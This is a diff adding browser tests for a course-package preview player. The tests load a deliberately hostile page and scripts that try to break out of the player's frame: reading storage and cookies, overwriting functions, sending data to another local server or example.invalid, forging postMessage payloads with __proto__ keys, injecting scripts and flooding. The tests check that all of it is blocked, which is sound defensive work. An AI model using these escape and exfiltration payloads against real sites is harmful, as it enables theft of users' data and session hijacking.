@@ -1,0 +1,226 @@
+"""A package that means harm, in the preview: nothing of it reaches the player, another program, or another machine."""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Frame, expect
+
+from coursewright.preview.courses import Packages
+
+from .test_preview import Player, manifest_12, sco_12, serving, zipped
+
+pytestmark = pytest.mark.browser
+
+ITEM = '<m:item identifier="A" identifierref="RB"><m:title>Unit</m:title></m:item>'
+
+EVIL = """<!DOCTYPE html><html lang="en"><head><title>Evil</title></head><body><script>
+const other = "http://127.0.0.1:OTHER/reached", out = {};
+const attempt = (name, action) => { try { out[name] = String(action()); } catch (error) { out[name] = "closed"; } };
+const wait = async (name, action) => { try { out[name] = String(await action()); } catch (error) { out[name] = "closed"; } };
+const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
+(async () => {
+  attempt("document", () => top.document.title);
+  attempt("write", () => { top.document.body.dataset.evil = "1"; });
+  attempt("storage", () => top.localStorage.length);
+  attempt("session", () => top.sessionStorage.length);
+  attempt("function", () => { top.fetch = null; });
+  attempt("location", () => top.location.href);
+  attempt("cookie", () => document.cookie);
+  attempt("domain", () => { document.domain = "localhost"; });
+  for (const path of ["/courses.json", "/events", "/player.js", "/last/x"]) await wait(path, async () => (await fetch(path)).status);
+  for (const address of [PLAYER + "courses.json", other, "http://example.invalid/x", "http://localhost:OTHER/reached"])
+    await wait("fetch " + address, async () => (await fetch(address, { mode: "no-cors" })).type);
+  await wait("worker", () => navigator.serviceWorker.register("worker.js"));
+  attempt("beacon", () => navigator.sendBeacon(other, "x"));
+  attempt("socket", () => new WebSocket(other.replace("http", "ws")));
+  attempt("events", () => new EventSource(other));
+  attempt("import", () => { import(other); });
+  add("img", { src: other }); add("script", { src: other }); add("link", { rel: "stylesheet", href: other });
+  add("video", { src: other }); add("object", { data: other }); add("embed", { src: other });
+  add("iframe", { src: other }); add("iframe", { src: PLAYER });
+  add("iframe", { srcdoc: `<script>parent.parent.parent.document.body.dataset.evil = 1</${"script"}><meta http-equiv="refresh" content="0;url=${other}">` });
+  add("iframe", { src: "data:text/html,<script>location='" + other + "'</" + "script>" });
+  add("form", { action: other, method: "post", id: "f", target: "_top" }); document.getElementById("f").submit();
+  add("form", { action: other, method: "get", id: "g" }); document.getElementById("g").submit();
+  add("a", { href: other, target: "_blank", id: "n" }); document.getElementById("n").click();
+  add("a", { href: other, target: "_top", id: "t" }); document.getElementById("t").click();
+  add("a", { href: other, download: "x", id: "d" }); document.getElementById("d").click();
+  attempt("open", () => window.open(other));
+  attempt("top open", () => window.open(other, "_top"));
+  attempt("unpatched", () => Window.prototype.open ? Window.prototype.open.call(window, other) : add("iframe", { id: "raw" }));
+  attempt("top", () => { top.location = other; });
+  attempt("top replace", () => top.location.replace("http://example.invalid/?leak"));
+  attempt("top hash", () => { top.location.hash = "evil"; });
+  for (let n = 0; n < 300; n += 1) attempt("history", () => { history.pushState(null, "", "?" + n); });
+  document.title = "x".repeat(5_000_000);
+  const token = new URLSearchParams(parent.location.hash.slice(1)).get("token");
+  const forged = { token, kind: "said", said: [{ kind: "saved", ended: true, values: { "cmi.core.lesson_status": "passed", __proto__: null, "__proto__": "x" } }] };
+  for (const text of [JSON.stringify(forged), forged, "{", "[]", "null", "x".repeat(5_000_000), JSON.stringify({ ...forged, said: { length: 1e9 } })])
+    top.postMessage(text, "*"); // from this window, which is not the run-time's
+  parent.document.body.append(Object.assign(parent.document.createElement("script"), { src: new URL("forge.js", location) }));
+  parent.postMessage({ token, kind: "leave" }, "*");
+  parent.API.LMSInitialize(""); parent.API.LMSSetValue("cmi.suspend_data", "z".repeat(10_000_000)); parent.API.LMSCommit("");
+  await new Promise((done) => setTimeout(done, 300));
+  parent.OUT = out;
+  location.href = other; setTimeout(() => { location.href = "http://example.invalid/"; }, 200);
+  setTimeout(() => { parent.location.href = other; }, 600);
+})();
+</script></body></html>"""
+
+
+FORGE = """
+const token = new URLSearchParams(location.hash.slice(1)).get("token"); // this runs in the run-time's own window
+const strange = { kind: "call", method: "constructor", values: [1], result: {}, error: "toString" };
+const shown = { kind: "call", method: "LMSGetValue", values: ["<img src=x>"], result: "y".repeat(200000), error: "0", why: { a: 1 } };
+const kept = { kind: "saved", values: { "__proto__.x": "1", "cmi.core.lesson_location": 7, "constructor": "x" } };
+parent.postMessage(JSON.stringify({ token, kind: "said", said: [strange, shown, kept, null, 7, { kind: "toString" }] }), "*");
+parent.postMessage(JSON.stringify({ token, kind: "said", said: { length: 1e9 } }), "*");
+parent.postMessage("x".repeat(5000000), "*");
+"""
+
+
+@contextmanager
+def another_program() -> Iterator[tuple[int, list[str]]]:
+    """Another program on this machine, with a cookie of its own, that hears who asks for what."""
+    heard: list[str] = []
+
+    class Other(BaseHTTPRequestHandler):
+        def answer(self) -> None:
+            heard.append(f"{self.command} {self.path}")
+            self.send_response(200)
+            self.send_header("Set-Cookie", "secret=other; Path=/")
+            self.end_headers()
+
+        do_GET = do_POST = answer  # noqa: N815 - the library's names
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Other) as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield server.server_port, heard
+        server.shutdown()
+
+
+def visited(context: BrowserContext, port: int) -> None:
+    """Have the cookie of the other program, as its user would."""
+    page = context.new_page()
+    for host in ("127.0.0.1", "localhost"):
+        page.goto(f"http://{host}:{port}/first")
+    page.close()
+
+
+def test_nothing_that_a_package_does_reaches_beyond_it(browser: Browser, tmp_path: Path) -> None:
+    with another_program() as (port, heard), browser.new_context() as context:
+        visited(context, port)
+        heard.clear()
+        folder = tmp_path / "course"
+        (folder / "content").mkdir(parents=True)
+        (folder / "imsmanifest.xml").write_text(manifest_12(ITEM))
+        (folder / "content" / "worker.js").write_text("self.x = 1")
+        (folder / "content" / "forge.js").write_text(FORGE)
+        _attack(context, folder, port, heard)
+
+
+def _attack(context: BrowserContext, folder: Path, port: int, heard: list[str]) -> None:
+    asked: list[str] = []
+    context.on("response", lambda response: asked.append(response.url))
+    with serving(Packages([folder])) as address:
+        file = folder / "content" / "b.html"
+        file.write_text(EVIL.replace("OTHER", str(port)).replace("PLAYER", json.dumps(address)))
+        page = context.new_page()
+        player = Player(page, address)
+        player.entry("Unit").click()
+        expect(page.locator("#status")).to_have_text("Running: Unit")
+        player.runtime().wait_for_function("() => window.OUT", timeout=20_000)
+        out: dict[str, str] = player.runtime().evaluate("() => window.OUT")
+        page.wait_for_timeout(1_500)
+        assert page.url.startswith(f"{address}?course=")
+        assert page.evaluate("() => document.body.dataset.evil") is None
+        assert page.evaluate("() => typeof window.fetch") == "function"
+        assert page.evaluate("() => document.title") == "Strangers | Preview"
+        assert player.state("Unit") in ("Not started", "In progress")
+        assert page.locator("#calls img").count() == 0
+        assert (
+            page.evaluate(
+                "() => Math.max(...[...document.querySelectorAll('#calls li')].map(li => li.textContent.length))"
+            )
+            < 2_000
+        )
+        assert len(context.pages) == 1
+        player.click("Exit unit")
+        expect(page.locator("#status")).to_have_text("Left: Unit")
+    names = ("document", "write", "storage", "session", "function", "location", "worker", "top replace")
+    assert {name: out[name] for name in names if out[name] != "closed"} == {}
+    assert {name: said for name, said in out.items() if name.startswith("fetch") and said != "closed"} == {}
+    assert {out[path] for path in ("/courses.json", "/events", "/player.js", "/last/x")} == {"404"}
+    assert out["cookie"] == ""
+    assert heard == []
+    assert [url for url in asked if "example.invalid" in url or f":{port}" in url] == []
+
+
+def loaded(player: Player) -> Frame:
+    frame = player.frame()
+    frame.wait_for_load_state("load")
+    return frame
+
+
+def test_a_window_that_a_unit_opens_lies_over_it_and_finds_the_api(browser: Browser, tmp_path: Path) -> None:
+    opener = (
+        '<title>O</title><button onclick="window.open(`c.html`); window.open(`http://example.invalid/`)">Go</button>'
+    )
+    inside = sco_12(
+        "Inside",
+        'call("LMSInitialize", ""); call("LMSSetValue", "cmi.core.lesson_status", "completed"); call("LMSFinish", "");',
+    )
+    package = zipped(tmp_path / "p.zip", manifest_12(ITEM), {"content/b.html": opener, "content/c.html": inside})
+    with serving(Packages([package])) as address, browser.new_context() as context:
+        player = Player(context.new_page(), address)
+        player.entry("Unit").click()
+        expect(player.page.locator("#status")).to_have_text("Running: Unit")
+        loaded(player).get_by_role("button", name="Go").click()
+        expect(player.entry("Unit")).to_contain_text("Completed")
+        expect(player.page.locator("#calls")).to_contain_text("Blocked: http://example.invalid/")
+        player.runtime().get_by_role("button", name="Close window").click()
+        expect(player.runtime().locator(".window")).to_have_count(0)
+        assert len(context.pages) == 1
+
+
+def test_a_unit_in_nested_frames_finds_the_api(browser: Browser, tmp_path: Path) -> None:
+    frames = '<html><head><title>F</title></head><frameset cols="1,*"><frame src="d.html"><frame src="d.html"></frameset></html>'
+    files = {
+        "content/b.html": frames,
+        "content/d.html": '<title>D</title><iframe src="c.html"></iframe>',
+        "content/c.html": sco_12(
+            "Deep",
+            'call("LMSInitialize", ""); call("LMSSetValue", "cmi.core.lesson_status", "passed"); call("LMSFinish", "");',
+        ),
+    }
+    with (
+        serving(Packages([zipped(tmp_path / "p.zip", manifest_12(ITEM), files)])) as address,
+        browser.new_context() as context,
+    ):
+        player = Player(context.new_page(), address)
+        player.entry("Unit").click()
+        expect(player.entry("Unit")).to_contain_text("Passed")
+
+
+def test_a_unit_that_floods_the_player_is_left(browser: Browser, tmp_path: Path) -> None:
+    page = '<title>F</title><script>parent.document.body.append(Object.assign(parent.document.createElement("script"), { src: new URL("f.js", location) }))</script>'
+    flood = """setInterval(() => { for (let n = 0; n < 99; n += 1) parent.postMessage("{}", "*"); }, 1)"""
+    files = {"content/b.html": page, "content/f.js": flood}
+    package = zipped(tmp_path / "p.zip", manifest_12(ITEM), files)
+    with serving(Packages([package])) as address, browser.new_context() as context:
+        player = Player(context.new_page(), address)
+        player.entry("Unit").click()
+        expect(player.page.locator("#calls")).to_contain_text("messages in a second")
+        expect(player.page.locator("#unit iframe")).to_have_count(0)
